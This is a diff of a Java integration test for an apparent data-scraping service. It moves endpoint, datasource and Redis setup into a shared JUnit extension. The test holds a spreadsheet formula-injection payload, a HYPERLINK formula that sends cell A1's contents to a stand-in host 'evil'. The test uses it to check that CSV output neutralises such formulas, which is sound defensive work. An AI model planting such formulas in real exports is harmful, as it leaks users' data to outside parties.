@@ -5,23 +5,17 @@ import static org.awaitility.Awaitility.await;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
-import io.scrapr.common.discovery.LocalDiscovery;
 import io.scrapr.common.json.Json;
 import io.scrapr.testkit.http.TestHttp;
 import io.scrapr.testkit.http.TestHttp.Response;
-import io.scrapr.testkit.redis.TestRedis;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.UUID;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 import java.util.stream.StreamSupport;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
  * What a hostile collection or query cannot do to the read side: run formulas in a spreadsheet that
@@ -30,39 +24,7 @@ import org.junit.jupiter.api.Test;
 class ReadBoundsIT {
   private static final String HYPERLINK = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";
 
-  private static TestRedis redis;
-  private LocalDiscovery discovery;
-  private StubConfigDiscovery configDiscovery;
-  private StubDatasource datasource;
-  private RunningEndpoint endpoint;
-  private String collection;
-
-  @BeforeAll
-  static void startRedis() {
-    redis = TestRedis.start();
-  }
-
-  @AfterAll
-  static void stopRedis() {
-    redis.close();
-  }
-
-  @BeforeEach
-  void startPeers() {
-    discovery = new LocalDiscovery();
-    configDiscovery = StubConfigDiscovery.start(discovery);
-    datasource = StubDatasource.start(discovery);
-    collection = "bounds-" + UUID.randomUUID().toString().substring(0, 8);
-  }
-
-  @AfterEach
-  void stopEverything() {
-    if (endpoint != null) {
-      endpoint.close();
-    }
-    datasource.close();
-    configDiscovery.close();
-  }
+  @RegisterExtension static final EndpointPeers peers = new EndpointPeers("bounds");
 
   @Test
   void csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_and_xml_stay_as_scraped() {
@@ -159,10 +121,8 @@ class ReadBoundsIT {
   }
 
   private TestHttp serve(List<ObjectNode> items) {
-    datasource.put(collection, items);
-    endpoint =
-        RunningEndpoint.start(configDiscovery.addEndpoint(collection, 60), redis.url(), discovery);
-    TestHttp http = endpoint.http();
+    peers.datasource().put(peers.collection(), items);
+    TestHttp http = peers.startEndpoint(60).http();
     await()
         .atMost(Duration.ofSeconds(15))
         .until(
